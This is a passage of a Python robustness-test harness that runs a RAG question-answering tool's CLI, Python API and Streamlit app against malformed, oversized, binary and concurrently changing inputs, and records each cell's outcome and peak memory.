        elif entry == "rag search":
            done = expect_success(ws.rag_inprocess("search", target.question, "--corpus", c, "--json"))
            seen = check_hits(corpus, parse_json(done), target)
        elif entry == "rag ask":
            done = expect_success(ws.rag_inprocess("ask", target.question, "--corpus", c, "--json"))
            seen = check_answer(corpus, parse_json(done), target)
        elif entry == "rag eval":
            questions = one_question(ws.path(f"eval-{input_class}.jsonl"), target.question, target.answer)
            out = ws.path(f"eval-{input_class}.json")
            done = expect_success(
                ws.rag_inprocess(
                    "eval", str(questions), "--corpus", c, "--reader", "heuristic", "--json", str(out)
                )
            )
            scored = json.loads(out.read_text(encoding="utf-8"))
            check(scored["n_questions"] == 1, f"scored {scored['n_questions']} questions, not 1")
            rank = scored["per_question"][0]["rank"]
            check(rank is not None, "the answer-bearing passage was not retrieved")
            seen = f"scored 1 question, its passage at rank {rank}"
        else:
            line = json.dumps({"id": "t", "question": target.question, "answers": [target.answer]})
            questions = ws.questions(f"bench-{input_class}", [line])
            done = expect_success(
                ws.rag_inprocess(
                    "bench", "query", "--corpus", c, "--questions", str(questions), "--reader", "heuristic"
                )
            )
            check("p50" in done.stdout, "no latency was printed")
            seen = done.stdout.strip().splitlines()[-1]
        lost = nothing_lost(corpus, target.skipped)
        return Observed(short(seen, 44), f"{seen}; {lost}", done.command)

    return Cell(entry, input_class, "result", case, run)


def _index_huge(size: MatrixSize) -> Cell:
    target = TARGETS["huge_article"]

    def run(ws: Workspace) -> Observed:
        done = ws.indexed("huge_article")
        base = expect_success(ws.baseline())
        said = [line for line in done.stdout.splitlines() if line.startswith("skipped huge.txt:")]
        check(said and "too large" in said[0], "`rag index` does not say huge.txt was skipped as too large")
        lost = nothing_lost(ws.corpus("huge_article"), target.skipped)
        assert done.peak_rss_mb is not None and base.peak_rss_mb is not None
        extra = done.peak_rss_mb - base.peak_rss_mb
        check(
            extra <= HUGE_RSS_MARGIN_MB,
            f"peak RSS {done.peak_rss_mb:.0f} MB is {extra:.0f} MB above indexing the three small articles "
            f"alone ({base.peak_rss_mb:.0f} MB; bound +{HUGE_RSS_MARGIN_MB:.0f} MB): the big file was read",
        )
        return Observed(
            f"skipped: too large; peak RSS +{extra:.0f} MB",
            f"{said[0]}; {lost}; peak RSS {done.peak_rss_mb:.0f} MB vs {base.peak_rss_mb:.0f} MB for the "
            f"three small articles alone (bound +{HUGE_RSS_MARGIN_MB:.0f} MB)",
            done.command,
            done.peak_rss_mb,
        )

    return Cell("rag index", "huge_article", "result", corpus_cases(size)["huge_article"], run)


def _index_many(size: MatrixSize) -> Cell:
    n, small_n = size.many_articles, size.many_articles // 5

    def run(ws: Workspace) -> Observed:
        done = ws.indexed("many_articles")
        check(f"{n} articles" in done.stdout, f"`rag index` did not report {n} articles")
        lost = nothing_lost(ws.corpus("many_articles"))
        indexed = sum(
            bool(e["indexed"]) for e in read_manifest(ws.corpus("many_articles"))["articles"].values()
        )
        check(indexed == n, f"{indexed} of {n} articles indexed")
        small = ws.rag_double(
            "index", "--corpus", str(ws.corpus("many_small")), "--quiet", timeout=size.many_timeout_s
        )
        expect_success(small)
        assert done.peak_rss_mb is not None and small.peak_rss_mb is not None
        per_article = (done.peak_rss_mb - small.peak_rss_mb) * 2**20 / (n - small_n)
        budget = PER_ARTICLE_BUDGET_BYTES + 4 * HashEncoder.dim + 8
        rss = (
            f"peak RSS {done.peak_rss_mb:.0f} MB for {n:,}, "
            f"{small.peak_rss_mb:.0f} MB for {small_n:,} articles"
        )
        check(
            per_article <= budget,
            f"{rss}: {per_article:,.0f} bytes more per article, over the {budget:,} byte budget "
            "(ingestion holds whole articles or passages for the whole corpus: it does not stream)",
        )
        return Observed(
            f"{n:,} indexed in {done.seconds:.0f} s; {per_article:,.0f} B/article",
            f"{lost}; {done.seconds:.1f} s; {rss}: {per_article:,.0f} bytes per article (budget {budget:,})",
            done.command,
            done.peak_rss_mb,
        )

    return Cell("rag index", "many_articles", "result", corpus_cases(size)["many_articles"], run)


def _cli_question(entry: str, input_class: str) -> Cell:
    bad, needle = BAD_QUESTIONS[input_class], QUESTION_NEEDLES[input_class]
    shown = f"{len(bad):,} characters" if len(bad) > 40 else repr(bad)
    line = json.dumps({"id": "bad", "question": bad, "answers": ["x"]}, ensure_ascii=False)
    if entry in ("rag search", "rag ask"):
        command = entry.split()[1]
        return Cell(
            entry,
            input_class,
            "message",
            f"the question {shown}",
            lambda ws: expect_message(ws.rag(command, bad, "--corpus", str(ws.corpus("good"))), needle),
        )

    if entry == "rag bench" and input_class in ("q_100kb", "q_emoji"):

        def bench_message(ws: Workspace) -> Observed:
            questions = ws.questions(f"bench-{input_class}", [])
            questions.write_text(line + "\n" + questions.read_text(encoding="utf-8"), encoding="utf-8")
            return expect_message(
                ws.rag_double(
                    "bench",
                    "query",
                    "--corpus",
                    str(ws.corpus("good")),
                    "--questions",
                    str(questions),
                    "--reader",
                    "heuristic",
                ),
                needle,
            )

        return Cell(
            entry, input_class, "message", f"a question file whose first question is {shown}", bench_message
        )

    def reported(ws: Workspace) -> Observed:
        """The bad question is reported (its line, or its record's error) and the others scored."""
        good = 1 if entry == "rag eval" else len(GOOD_QUESTIONS)
        questions = ws.questions(f"{entry.split()[1]}-{input_class}", [line], good=good)
        corpus = str(ws.corpus("good"))
        if entry == "rag eval":
            out = ws.path(f"eval-{input_class}.json")
            done = expect_success(
                ws.rag_inprocess(
                    "eval", str(questions), "--corpus", corpus, "--reader", "heuristic", "--json", str(out)
                )
            )
            records = json.loads(out.read_text(encoding="utf-8"))["per_question"]
        else:
            done = expect_success(
                ws.rag_inprocess(
                    "bench",
                    "query",
                    "--corpus",
                    corpus,
                    "--questions",
                    str(questions),
                    "--reader",
                    "heuristic",
                )
            )
            records = []
        warned = [w for w in done.stderr.splitlines() if f"line {good + 1}:" in w]
        errors = [r["error"] for r in records if r["id"] == "bad" and r.get("error")]
        if not warned and not errors:
            raise done.failure(f"the bad question on line {good + 1} was dropped without a word")
        said = warned[0] if warned else f"scored as an abstention with error: {errors[0]}"
        check(warned or needle in errors[0], f"the reason does not say {needle!r}")
        return Observed(short(said.split(": ", 2)[-1], 44), said, done.command)

    return Cell(entry, input_class, "result", f"a question file with the question {shown}", reported)


def _cli_k(entry: str, input_class: str) -> Cell:
    k = BAD_K[input_class]
    if entry in ("rag search", "rag ask"):
        command = entry.split()[1]
        return Cell(
            entry,
            input_class,
            "message",
            f"-k {k}",
            lambda ws: expect_message(
                ws.rag(command, GOOD_QUESTIONS[0][0], "--corpus", str(ws.corpus("good")), "-k", str(k)),
                f"got {k}",
            ),
        )
    if input_class != "k_huge":
        return Cell(
            entry,
            input_class,
            "message",
            f"--limit {k} (eval's count)",
            lambda ws: expect_message(
                ws.rag(
                    "eval",
                    str(ws.questions("eval-two", [], good=2)),
                    "--corpus",
                    str(ws.corpus("good")),
                    "--limit",
                    str(k),
                ),
                f"--limit must be >= 1, got {k}",
            ),
        )

    def huge(ws: Workspace) -> Observed:
        out = ws.path("eval-huge-limit.json")
        done = expect_success(
            ws.rag_inprocess(
                "eval",
                str(ws.questions("eval-two", [], good=2)),
                "--corpus",
                str(ws.corpus("good")),
                "--limit",
                str(k),
                "--reader",
                "heuristic",
                "--json",
                str(out),
            )
        )
        n = json.loads(out.read_text(encoding="utf-8"))["n_questions"]
        check(n == 2, f"scored {n} questions, not all 2")
        return Observed(
            "scored all 2 questions", f"--limit {k} over a file of 2 questions: all 2 scored", done.command
        )

    return Cell(entry, input_class, "result", f"--limit {k} (eval's count)", huge)


def _cli_bad_file(entry: str) -> Cell:
    good = 2

    def run(ws: Workspace) -> Observed:
        questions = ws.questions("malformed", MALFORMED_LINES, good=good if entry == "rag eval" else 6)
        valid = good if entry == "rag eval" else 6
        corpus = str(ws.corpus("good"))
        if entry == "rag eval":
            done = expect_success(
                ws.rag_inprocess("eval", str(questions), "--corpus", corpus, "--reader", "heuristic")
            )
        else:
            done = expect_success(
                ws.rag_inprocess(
                    "bench",
                    "query",
                    "--corpus",
                    corpus,
                    "--questions",
                    str(questions),
                    "--reader",
                    "heuristic",
                )
            )
        bad_lines = range(valid + 1, valid + len(MALFORMED_LINES) + 1)
        silent = [n for n in bad_lines if f"line {n}:" not in done.stderr]
        if silent:
            raise done.failure(f"malformed line(s) {silent} dropped without a word")
        return Observed(
            f"{len(MALFORMED_LINES)} bad lines reported; {valid} used",
            "\n".join(w for w in done.stderr.splitlines() if "line " in w),
            done.command,
        )

    return Cell(
        entry,
        "bad_question_file",
        "result",
        "a question file with bad JSON, a list, a blank question, a duplicate id, wrong types",
        run,
    )


def _cli_changing(entry: str) -> Cell:
    if entry == "rag index":
        return Cell(
            entry,
            "changing_corpus",
            "result",
            "files edited (in two writes), added and deleted by a thread while `rag index` runs",
            race_cell,
        )
    command = entry.split()[1]

    def args(corpus: Path, question: str) -> list[str]:
        c = str(corpus)
        if command in ("search", "ask"):
            return [command, question, "--corpus", c, "--json"]
        questions = one_question(corpus.parent / f"{command}-changing.jsonl", question, "Per Olsen")
        if command == "eval":
            return ["eval", str(questions), "--corpus", c, "--reader", "heuristic"]
        bench = question_file(corpus.parent / "bench-changing.jsonl", [])
        return ["bench", "query", "--corpus", c, "--questions", str(bench), "--reader", "heuristic"]

    def first(ws: Workspace, corpus: Path, encoder: Callable[[], Any]) -> str:
        expect_success(ws.rag_inprocess(*args(corpus, GOOD_QUESTIONS[0][0]), encoder=encoder))
        return f"`rag {command}` exit 0"

    def again(ws: Workspace, corpus: Path) -> str:
        done = expect_success(ws.rag_inprocess(*args(corpus, LIGHTHOUSE_Q)))
        if command == "search":
            check_hits(
                corpus, parse_json(done), Target(LIGHTHOUSE_Q, "Per Olsen", "new/lighthouse.txt", "Per Olsen")
            )
        elif command == "ask":
            check_answer(
                corpus, parse_json(done), Target(LIGHTHOUSE_Q, "Per Olsen", "new/lighthouse.txt", "")
            )
        return (
            f"`rag {command}` found the new article"
            if command in ("search", "ask")
            else f"`rag {command}` ran"
        )

    def run(ws: Workspace) -> Observed:
        return hooked_cell(ws, f"{command}-changing", first, again)

    return Cell(
        entry,
        "changing_corpus",
        "result",
        "an edit, a deletion and an addition made while the command's index build embeds",
        run,
    )


def _cli_cells(size: MatrixSize) -> list[Cell]:
    cases = corpus_cases(size)
    out: list[Cell] = []
    for entry in CLI_ENTRIES:
        out += [_cli_corpus_message(entry, c) for c in CORPUS_MESSAGES]
        for input_class in CORPUS_RESULT_CLASSES:
            if entry == "rag index" and input_class == "huge_article":
                out.append(_index_huge(size))
            elif entry == "rag index" and input_class == "many_articles":
                out.append(_index_many(size))
            else:
                out.append(_cli_corpus_result(entry, input_class, cases[input_class]))
        for input_class in QUESTION_CLASSES:
            if entry == "rag index":
                out.append(Cell(entry, input_class, "n/a", "`rag index` takes no question"))
            else:
                out.append(_cli_question(entry, input_class))
        for input_class in K_CLASSES:
            if entry in ("rag index", "rag bench"):
                out.append(Cell(entry, input_class, "n/a", f"`{entry}` has no k (nor any count)"))
            else:
                out.append(_cli_k(entry, input_class))
        if entry in ("rag eval", "rag bench"):
            out.append(_cli_bad_file(entry))
        else:
            out.append(Cell(entry, "bad_question_file", "n/a", f"`{entry}` takes no question file"))
        out.append(_cli_changing(entry))
    return out


def _api_cells(size: MatrixSize) -> list[Cell]:
    """QAPipeline.from_corpus / retrieve / ask and rag.evaluation.load_questions."""
    from rag.pipeline import QAPipeline

    entry = "Python API"
    out: list[Cell] = []
    for input_class, (needle, case) in CORPUS_MESSAGES.items():

        def message(ws: Workspace, input_class: str = input_class, needle: str = needle) -> Observed:
            said = expect_rag_error(
                lambda: QAPipeline.from_corpus(ws.corpus(input_class), encoder=HashEncoder()), needle
            )
            said = ws.clean(said)
            return Observed(f"RagError: {short(said, 44)}", said, "QAPipeline.from_corpus(corpus)")

        out.append(Cell(entry, input_class, "message", case, message))
    cases = corpus_cases(size)
    for input_class, target in TARGETS.items():

        def result(ws: Workspace, input_class: str = input_class, target: Target = target) -> Observed:
            from rag.answer import answer_json

            if input_class in ("huge_article", "many_articles"):
                ws.indexed(input_class)
            corpus = ws.corpus(input_class)
            qa = QAPipeline.from_corpus(corpus, encoder=HashEncoder())
            try:
                assert qa.report is not None
                for doc_id, words in target.skipped:
                    reasons = [s.reason for s in qa.report.skipped if s.doc_id == doc_id]
                    check(reasons and words in reasons[0], f"report.skipped does not give {doc_id} ({words})")
                hits = [
                    {
                        "doc_id": h.passage.doc_id,
                        "start": h.passage.start,
                        "end": h.passage.end,
                        "text": h.passage.text,
                    }
                    for h in qa.retrieve(target.question, k=5)
                ]
                seen = check_hits(corpus, hits, target)
                said = check_answer(corpus, answer_json(qa.ask(target.question)), target)
            finally:
                qa.close()
            lost = nothing_lost(corpus, target.skipped)
            return Observed(
                short(said, 44),
                f"retrieve: {seen}; ask: {said}; {lost}",
                "QAPipeline.from_corpus(corpus); qa.retrieve(q, k=5); qa.ask(q)",
            )

        out.append(Cell(entry, input_class, "result", cases[input_class], result))
    for input_class in QUESTION_CLASSES:

        def question(ws: Workspace, input_class: str = input_class) -> Observed:
            qa = ws.pipeline("good")
            bad, needle = BAD_QUESTIONS[input_class], QUESTION_NEEDLES[input_class]
            said = expect_rag_error(lambda: qa.ask(bad), needle)
            expect_rag_error(lambda: qa.retrieve(bad), needle)
            return Observed(f"RagError: {short(said, 44)}", said, "qa.ask(question); qa.retrieve(question)")

        shown = BAD_QUESTIONS[input_class]
        out.append(
            Cell(
                entry,
                input_class,
                "message",
                f"the question {len(shown):,} characters" if len(shown) > 40 else f"the question {shown!r}",
                question,
            )
        )
    for input_class, k in BAD_K.items():

        def bad_k(ws: Workspace, k: int = k) -> Observed:
            qa = ws.pipeline("good")
            said = expect_rag_error(lambda: qa.retrieve(GOOD_QUESTIONS[0][0], k=k), f"got {k}")
            expect_rag_error(lambda: qa.ask(GOOD_QUESTIONS[0][0], k=k), f"got {k}")
            return Observed(f"RagError: {short(said, 44)}", said, f"qa.retrieve(q, k={k}); qa.ask(q, k={k})")

        out.append(Cell(entry, input_class, "message", f"k={k}", bad_k))

    def bad_file(ws: Workspace) -> Observed:
        from rag.evaluation import load_questions

        load = load_questions(ws.questions("malformed-api", MALFORMED_LINES, good=2))
        check(len(load.questions) == 2, f"{len(load.questions)} questions loaded, not the 2 valid ones")
        silent = [
            n
            for n in range(3, 3 + len(MALFORMED_LINES))
            if not any(p.startswith(f"line {n}:") for p in load.problems)
        ]
        check(not silent, f"malformed line(s) {silent} not in load.problems")
        return Observed(
            f"{len(load.problems)} problems by line; 2 questions",
            "\n".join(load.problems),
            "rag.evaluation.load_questions(path)",
        )

    out.append(
        Cell(
            entry,
            "bad_question_file",
            "result",
            "a question file with bad JSON, a list, a blank question, a duplicate id, wrong types",
            bad_file,
        )
    )

    def first(ws: Workspace, corpus: Path, encoder: Callable[[], Any]) -> str:
        qa = QAPipeline.from_corpus(corpus, encoder=encoder())
        qa.close()
        return "from_corpus returned"

    def again(ws: Workspace, corpus: Path) -> str:
        qa = QAPipeline.from_corpus(corpus, encoder=HashEncoder())
        try:
            report = qa.report
            assert report is not None
            got = (report.changed, report.removed, report.added)
            check(
                got == (("harbour.txt",), ("budget.txt",), ("new/lighthouse.txt",)),
                f"the next sync reported changed/removed/added {got}",
            )
            hits = qa.retrieve(LIGHTHOUSE_Q, k=3)
            check(hits and hits[0].passage.doc_id == "new/lighthouse.txt", "the new article is not found")
        finally:
            qa.close()
        return "report: changed harbour.txt, removed budget.txt, added new/lighthouse.txt"

    out.append(
        Cell(
            entry,
            "changing_corpus",
            "result",
            "an edit, a deletion and an addition made while from_corpus embeds",
            lambda ws: hooked_cell(ws, "api-changing", first, again),
        )
    )
    return out


# ---- the app, through streamlit.testing.v1.AppTest -------------------------------------------------


@contextmanager
def app_session(
    corpus: Path, *, questions: Path | None = None, encoder: Callable[[], Any] = HashEncoder
) -> Iterator[Any]:
    """app.py on `corpus` as a browser session would run it, already loaded once."""
    from contextlib import chdir

    from streamlit.testing.v1 import AppTest

    check(APP_FILE.is_file(), f"no app at {APP_FILE} (app.py ships with the repository, not the package)")
    env = {"RAG_CORPUS": str(corpus), "RAG_QUESTIONS": str(questions or corpus / "questions.jsonl")}
    with mock.patch.dict(os.environ, env), embedder_double(encoder), chdir(PACKAGE_ROOT):
        at = AppTest.from_file(str(APP_FILE), default_timeout=900)
        at.run()
        yield at


def app_ok(at: Any) -> None:
    if at.exception:
        first = at.exception[0]
        raise CellFailure(
            f"the app raised: {short(first.message, 120)}", "\n".join(first.stack_trace)[-3000:]
        )


def rendered(at: Any) -> str:
    parts = [*at.markdown, *at.caption, *at.text, *at.warning, *at.error]
    return "\n".join(str(p.value) for p in parts)


def app_ask(at: Any, question: str) -> str:
    at.chat_input[0].set_value(question).run()
    app_ok(at)
    return rendered(at)


def app_upload(at: Any, files: list[tuple[str, bytes]]) -> list[str]:
    """Submit files through the sidebar form; returns the sidebar's error messages."""
    at.file_uploader[0].set_value([(name, data, "text/plain") for name, data in files])
    submit = [b for b in at.button if b.label == "Add to the index"]
    check(submit, "the upload form has no submit button")
    submit[0].click().run()
    app_ok(at)
    return [str(e.value) for e in at.sidebar.error]


def _app_chat_cells(size: MatrixSize) -> list[Cell]:
    entry = "app chat"
    out: list[Cell] = []
    for input_class, (needle, case) in CORPUS_MESSAGES.items():

        def message(ws: Workspace, input_class: str = input_class, needle: str = needle) -> Observed:
            with app_session(ws.corpus(input_class)) as at:
                app_ok(at)
                errors = [ws.clean(str(e.value)) for e in at.error]
            said = [e for e in errors if "Cannot load the corpus" in e and needle in e]
            check(said, f"the app does not say {needle!r} (errors: {errors})")
            return Observed(short(said[0].split(": ", 1)[-1], 44), said[0], "RAG_CORPUS=corpus app.py")

        out.append(Cell(entry, input_class, "message", case, message))
    cases = corpus_cases(size)
    for input_class, target in TARGETS.items():

        def result(ws: Workspace, input_class: str = input_class, target: Target = target) -> Observed:
            if input_class in ("huge_article", "many_articles"):
                ws.indexed(input_class)
            corpus = ws.corpus(input_class)
            with app_session(corpus) as at:
                app_ok(at)
                shown = app_ask(at, target.question)
                sidebar = [str(t.value) for t in at.sidebar.text]
            check(f"· {target.doc_id} ·" in shown, f"no citation of {target.doc_id} in the answer")
            for text in target.absent:
                check(text not in shown, f"the page shows {text!r}")
            for doc_id, words in target.skipped:
                check(
                    any(t.startswith(f"{doc_id}:") and words in t for t in sidebar),
                    f"the sidebar does not list {doc_id} as skipped ({words})",
                )
            answered = "abstained" if "The articles don't say" in shown else "answered"
            lost = nothing_lost(corpus, target.skipped)
            return Observed(
                f"{answered}, citing {target.doc_id}",
                f"{answered}, citing {target.doc_id}; {lost}",
                f"RAG_CORPUS=corpus app.py; ask {target.question!r}",
            )

        out.append(Cell(entry, input_class, "result", cases[input_class], result))
    for input_class in QUESTION_CLASSES:

        def question(ws: Workspace, input_class: str = input_class) -> Observed:
            bad, needle = BAD_QUESTIONS[input_class], QUESTION_NEEDLES[input_class]
            with app_session(ws.corpus("good")) as at:
                app_ok(at)
                before = len(at.chat_message)
                at.chat_input[0].set_value(bad).run()
                app_ok(at)
                warnings = [str(w.value) for w in at.warning]
                messages = len(at.chat_message)
            if input_class == "q_empty":
                check(messages == before and not warnings, "an empty input was sent as a question")
                return Observed(
                    "nothing sent", "the chat input does not send an empty question", "chat input ''"
                )
            said = [w for w in warnings if needle in w]
            check(said, f"no warning saying {needle!r} (warnings: {warnings})")
            return Observed(short(said[0], 44), said[0], "chat input")

        expected = "result" if input_class == "q_empty" else "message"
        out.append(
            Cell(entry, input_class, expected, f"typed into the chat: {INPUT_CLASSES[input_class]}", question)
        )
    for input_class in K_CLASSES:
        out.append(
            Cell(
                entry,
                input_class,
                "n/a",
                "the app's only k is the 'Passages to read' slider, 1 to 10: no other value can be entered",
            )
        )

    def bad_file(ws: Workspace) -> Observed:
        questions = ws.questions("malformed-app", MALFORMED_LINES, good=2)
        with app_session(ws.corpus("good"), questions=questions) as at:
            app_ok(at)
            at.button(key="run-eval").click().run()
            app_ok(at)
            warnings = [str(w.value) for w in at.warning]
            metrics = [m.label for m in at.metric]
        silent = [
            n for n in range(3, 3 + len(MALFORMED_LINES)) if not any(f"line {n}:" in w for w in warnings)
        ]
        check(not silent, f"malformed line(s) {silent} not shown (warnings: {warnings})")
        check("F1" in metrics, "the evaluation did not run on the valid questions")
        return Observed(
            f"{len(MALFORMED_LINES)} bad lines shown; evaluated",
            "\n".join(warnings),
            "RAG_QUESTIONS=file app.py; Evaluation tab, run",
        )

    out.append(
        Cell(
            entry, "bad_question_file", "result", "RAG_QUESTIONS: a file with six kinds of bad line", bad_file
        )
    )

    def changing(ws: Workspace) -> Observed:
        corpus, mutate = changing_corpus(ws, "app-changing")
        seen = hooked_versions(corpus)
        encoder = MutatingEncoder(mutate)
        with app_session(corpus, encoder=lambda: encoder) as at:
            app_ok(at)
            check(encoder.fired, "the corpus was never changed during the app's index build")
            articles = index_consistent(corpus, seen)
            first = app_ask(at, GOOD_QUESTIONS[0][0])
            check("· harbour.txt ·" in first, "the answer does not cite harbour.txt")
            at.button(key="rebuild").click().run()
            app_ok(at)
            second = app_ask(at, LIGHTHOUSE_Q)
        check("· new/lighthouse.txt ·" in second, "after a rebuild the new article is not cited")
        state = index_matches_files(corpus)
        return Observed(
            "consistent, then caught up",
            f"loaded while an edit, a deletion and an addition happened mid-index ({articles} "
            f"articles, consistent); answered; after 'Rebuild the index' the new article is "
            f"cited; {state}",
            "RAG_CORPUS=corpus app.py; ask; Rebuild; ask",
        )

    out.append(
        Cell(
            entry,
            "changing_corpus",
            "result",
            "an edit, a deletion and an addition during the app's first index build",
            changing,
        )
    )
    return out


UPLOADS: dict[str, tuple[str, str, str]] = {  # input class -> (file name, source of bytes, refusal words)
    "empty_folder": ("empty.txt", "empty", "empty file"),
    "binaries": ("scan.txt", "binary", "binary"),
    "nul_bytes": ("upload-nul.txt", "nul_bytes", "NUL bytes"),
    "invalid_utf8": ("upload-mixed.txt", "invalid_utf8", ""),
    "latin1": ("upload-zurich.txt", "latin1", ""),
    "huge_article": ("huge.txt", "huge", "the limit is"),
    "html_scripts": ("upload-page.html", "html_scripts", ""),
}


def _upload_bytes(ws: Workspace, source: str) -> bytes:
    if source == "empty":
        return b""
    if source == "binary":
        return BINARIES["scan.txt"]
    if source == "huge":
        return (ws.corpus("huge_article") / "huge.txt").read_bytes()
    return SPECIAL_FILES[source][1]


def _upload_cells(size: MatrixSize) -> list[Cell]:
    entry = "app upload"
    out: list[Cell] = []

    def shared_corpus(ws: Workspace) -> Path:
        name = "app-uploads"
        return ws.path("corpora") / name if (ws.path("corpora") / name).is_dir() else ws.fresh_copy(name)

    for input_class, (name, source, refusal) in UPLOADS.items():

        def run(
            ws: Workspace,
            name: str = name,
            source: str = source,
            refusal: str = refusal,
            input_class: str = input_class,
        ) -> Observed:
            corpus = shared_corpus(ws)
            with app_session(corpus) as at:
                app_ok(at)
                errors = app_upload(at, [(name, _upload_bytes(ws, source))])
            saved = corpus / "uploads" / name
            if refusal:
                said = [e for e in errors if refusal in e]
                check(said, f"no refusal saying {refusal!r} (errors: {errors})")
                check(not saved.exists(), f"the refused file was written to {saved}")
                return Observed(short(said[0], 44), said[0], f"upload {name}")
            check(not errors, f"the upload was refused: {errors}")
            check(saved.is_file(), f"the upload was not saved to {saved}")
            entry_ = read_manifest(corpus)["articles"].get(f"uploads/{name}")
            check(entry_ and entry_["indexed"], f"uploads/{name} is not indexed")
            target = TARGETS[input_class]
            seen = stored_article(
                corpus, Target("", "", f"uploads/{name}", target.contains, absent=target.absent)
            )
            return Observed("added and indexed", f"{seen}; {nothing_lost(corpus)}", f"upload {name}")

        expected = "message" if refusal else "result"
        case = "an empty file" if input_class == "empty_folder" else f"upload {name}"
        out.append(Cell(entry, input_class, expected, case, run))

    def missing(ws: Workspace) -> Observed:
        corpus = ws.fresh_copy("app-upload-missing")
        with app_session(corpus) as at:
            app_ok(at)
            shutil.rmtree(corpus)
            errors = [ws.clean(e) for e in app_upload(at, [("late.txt", GOOD["harbour.txt"].encode())])]
        said = [e for e in errors if "does not exist" in e]
        check(said, f"no error saying the folder does not exist (errors: {errors})")
        return Observed(short(said[0], 44), said[0], "upload after the corpus folder was deleted")

    out.append(
        Cell(entry, "missing_path", "message", "the corpus folder deleted while the app runs", missing)
    )

    def many(ws: Workspace) -> Observed:
        corpus = shared_corpus(ws)
        files = [(f"tiny-{i:05d}.txt", tiny_article(50_000 + i).encode()) for i in range(size.upload_batch)]
        with app_session(corpus) as at:
            app_ok(at)
            errors = app_upload(at, files)
        check(not errors, f"uploads refused: {errors[:3]}")
        articles = read_manifest(corpus)["articles"]
        missing_ = [n for n, _ in files if not articles.get(f"uploads/{n}", {}).get("indexed")]
        check(not missing_, f"{len(missing_)} of {len(files)} uploads not indexed, e.g. {missing_[:3]}")
        return Observed(
            f"{len(files)} added and indexed",
            f"{len(files)} files in one upload: all indexed; {nothing_lost(corpus)}",
            f"upload {len(files)} tiny files at once",
        )

    out.append(
        Cell(entry, "many_articles", "result", f"{size.upload_batch} tiny articles in one upload", many)
    )
    for input_class in (*QUESTION_CLASSES, *K_CLASSES):
        out.append(Cell(entry, input_class, "n/a", "the uploader takes files, not questions or k"))
    out.append(
        Cell(
            entry,
            "bad_question_file",
            "n/a",
            "the file picker offers only .txt, .md and .html (Streamlit "
            "refuses other extensions before the app sees them); question files go to `rag eval`",
        )
    )

    def changing(ws: Workspace) -> Observed:
        corpus, mutate = changing_corpus(ws, "app-upload-changing")
        seen = hooked_versions(corpus)
        seen["uploads/ferry.txt"] = {_sha(SPECIAL_FILES["latin1"][1])}
        encoder = MutatingEncoder()
        with app_session(corpus, encoder=lambda: encoder) as at:
            app_ok(at)
            encoder.arm(mutate)
            errors = app_upload(at, [("ferry.txt", SPECIAL_FILES["latin1"][1])])
            check(not errors, f"the upload was refused: {errors}")
            check(encoder.fired, "the corpus was never changed during the upload's index update")
            articles = index_consistent(corpus, seen)
            errors = app_upload(at, [("ferry-2.txt", LIGHTHOUSE.replace("Per Olsen", "Ola Dahl").encode())])
            check(not errors, f"the second upload was refused: {errors}")
        state = index_matches_files(corpus)
        return Observed(
            "consistent, then caught up",
            f"an edit, a deletion and an addition during the upload's index update: consistent "
            f"({articles} articles); the next upload's update caught up; {state}",
            "upload ferry.txt; upload ferry-2.txt",
        )

    out.append(
        Cell(
            entry,
            "changing_corpus",
            "result",
            "an edit, a deletion and an addition during an upload's index update",
            changing,
        )
    )
    return out


def _cell_table(size: MatrixSize) -> dict[tuple[str, str], Cell]:
    cells_ = [*_cli_cells(size), *_api_cells(size), *_app_chat_cells(size), *_upload_cells(size)]
    return {(c.entry, c.input_class): c for c in cells_}


# ---- the matrix ----------------------------------------------------------------------------


def cells(size: MatrixSize = QUICK) -> list[Cell]:
    """Every entry point x every input class, in table order (rows, then columns)."""
    table = _cell_table(size)
    for entry in ENTRY_POINTS:
        for input_class in INPUT_CLASSES:
            if (entry, input_class) not in table:
                raise KeyError(f"the matrix has no cell for {entry} x {input_class}")
    return [table[(entry, c)] for entry in ENTRY_POINTS for c in INPUT_CLASSES]


def run_cell(cell: Cell, ws: Workspace) -> CellResult:
    """Run one cell; a misbehaving entry point is a failed cell with what it printed, never a crash."""
    if cell.run is None:
        return CellResult(cell.entry, cell.input_class, "n/a", cell.case, None, "n/a", cell.case, "", 0.0)
    started = time.perf_counter()
    passed, peak = False, None
    try:
        seen = cell.run(ws)
        passed, outcome, detail, command, peak = (
            True,
            seen.outcome,
            seen.detail,
            seen.command,
            seen.peak_rss_mb,
        )
    except CellFailure as failure:
        outcome, detail, command = str(failure), f"{failure}\n{failure.observed}".strip(), failure.command
    except Exception as exc:  # the product crashed: a failed cell with its traceback
        outcome, detail, command = f"crashed: {type(exc).__name__}: {exc}", traceback.format_exc()[-4000:], ""

    def clean(text: str) -> str:
        return text.replace(str(ws.root), "$WORK")

    seconds = time.perf_counter() - started
    return CellResult(
        cell.entry,
        cell.input_class,
        cell.expected,
        cell.case,
        passed,
        clean(outcome)[:300],
        clean(detail),
        clean(command),
        seconds,
        peak,
    )


@contextmanager
def workspace(size: MatrixSize = QUICK, root: Path | None = None) -> Iterator[Workspace]:
    """A scratch workspace whose indexes go to its own index home (never the user's cache)."""
    with tempfile.TemporaryDirectory(prefix="rag-badinput-", dir=root) as tmp, ExitStack() as stack:
        ws = Workspace(Path(tmp), size)
        stack.enter_context(mock.patch.dict(os.environ, {"RAG_INDEX_HOME": str(ws.index_home)}))
        stack.enter_context(_shared_span_model())
        try:
            yield ws
        finally:
            ws.close()
            _clear_app_cache()


def _clear_app_cache() -> None:
    """Drop the app's cached corpora (they point into the workspace, which is about to go)."""
    if "streamlit" in sys.modules:
        import streamlit as st

        st.cache_resource.clear()


def run_matrix(size: MatrixSize = QUICK, log: Log = lambda message: None) -> list[CellResult]:
    """Run every cell in table order; returns one result per cell (n/a cells included)."""
    results: list[CellResult] = []
    with workspace(size) as ws:
        for cell in cells(size):
            result = run_cell(cell, ws)
            mark = {True: "ok  ", False: "FAIL", None: "n/a "}[result.passed]
            log(f"{mark} {result.key}: {result.outcome} ({result.seconds:.1f} s)")
            results.append(result)
    return results


def main(argv: list[str]) -> None:
    """`python -m rag.badinput ARGS`: the `rag` command with the test-double embedder."""
    from rag.cli import main as rag_main

    with embedder_double():
        rag_main(argv, prog_name="rag")


if __name__ == "__main__":
    main(sys.argv[1:])
